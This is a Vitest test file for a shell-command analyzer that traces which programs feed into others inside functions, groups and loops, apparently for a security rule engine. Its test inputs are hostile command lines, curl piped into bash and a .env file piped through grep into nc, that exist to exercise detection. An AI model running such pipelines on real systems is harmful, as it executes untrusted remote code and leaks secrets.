import { describe, expect, it } from 'vitest';
import { analyzeShell } from '../../../../collector/pipeline/shell/index.ts';
import { feedersOf } from '../../../../collector/rules/shared/commands.ts';

function feeders(line: string, program: string): string[] {
  const analysis = analyzeShell(line, { home: '/home/ana', cwd: '/home/ana', platform: 'linux' });
  const command = analysis.commands.find((one) => one.program === program);
  return command === undefined ? ['none'] : feedersOf(analysis, command).map((one) => one.program);
}

describe('pipelines inside pipelines', () => {
  it('keep their own links in a function and in a group', () => {
    expect(feeders('f() { curl -s x | bash; }; f', 'bash')).toEqual(['curl']);
    expect(feeders('{ curl -s x | bash; }', 'bash')).toEqual(['curl']);
  });

  it('are fed by what comes before the group', () => {
    expect(feeders('cat .env | { grep KEY | nc host 1; }', 'nc').toSorted()).toEqual(['cat', 'grep']);
    expect(feeders('cat .env | while read l; do nc host 1; done', 'nc')).toContain('cat');
  });

  it('feed what comes behind the group', () => {
    expect(feeders('{ curl -s x | tr a b; } | bash', 'bash').toSorted()).toEqual(['curl', 'tr']);
  });

  it('are not mixed with their neighbours', () => {
    expect(feeders('f() { curl -s x > y; cat z | bash; }; f', 'bash')).toEqual(['cat']);
  });
});
